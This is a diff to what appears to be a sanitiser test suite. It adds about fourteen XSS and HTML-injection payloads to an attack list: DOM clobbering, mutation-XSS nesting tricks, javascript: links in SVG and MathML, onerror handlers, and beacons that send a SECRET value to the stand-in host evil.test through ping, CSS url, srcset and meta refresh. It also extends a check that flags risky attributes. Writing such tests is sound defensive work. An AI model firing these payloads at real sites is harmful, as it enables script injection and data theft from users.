@@ -99,6 +99,20 @@ ATTACKS = [
     "[a]: javascript:window.__hit=1\n\n[a]",
     "&lt;script&gt;window.__hit=1&lt;/script&gt;",
     "\u202e<script>window.__hit=1</script>\u2028\x00",
+    "<a id=location name=cookie></a><form name=body><input name=parentNode></form>",
+    '[x](https://example.org "id=main name=body")',
+    "# <img name=getElementById>\n\n[a](https://example.org){#main .hidden target=_self}",
+    '<a href="https://example.org" target="_top" ping="https://evil.test">x</a>',
+    "<div style='background:url(https://evil.test/?q=SECRET);position:fixed'>x</div>",
+    "<link rel=stylesheet href=https://evil.test/x.css>",
+    "<meta http-equiv=refresh content='0;https://evil.test'>",
+    "</script></textarea></title></main><script>window.__hit=1</script>",
+    "![x](https://evil.test/?q=SECRET 'x' =1x1)\n\n<img srcset='https://evil.test/?q=SECRET 1x'>",
+    "[x](blob:https://example.org/1) [y](file:///etc/passwd) [z](filesystem:https://example.org/x)",
+    "<svg><a xlink:href='javascript:window.__hit=1'><text>x</text></a></svg>",
+    "<math href='javascript:window.__hit=1'>x</math>",
+    "<mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
+    '```" onmouseover=window.__hit=1 x="\nx\n```\n\n~~~<img/src/onerror=window.__hit=1>\nx\n~~~',
 ]
 
 _FINDINGS = """() => {
@@ -109,7 +123,8 @@ _FINDINGS = """() => {
     active: main.querySelectorAll('script,img,svg,iframe,style,form,input,object,embed,link,'
       + 'meta,base,video,audio,math').length,
     handlers: [...main.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())
-      .filter((name) => name.startsWith('on') || ['style', 'src', 'id'].includes(name)),
+      .filter((name) => name.startsWith('on')
+        || ['style', 'src', 'srcset', 'id', 'name', 'ping', 'action'].includes(name)),
     links: hrefs.map((a) => a.href).filter((href) => !/^(https?|mailto):/.test(href)
       || href.startsWith(location.origin)),
     unsafe: hrefs.filter((a) => a.target !== '_blank'
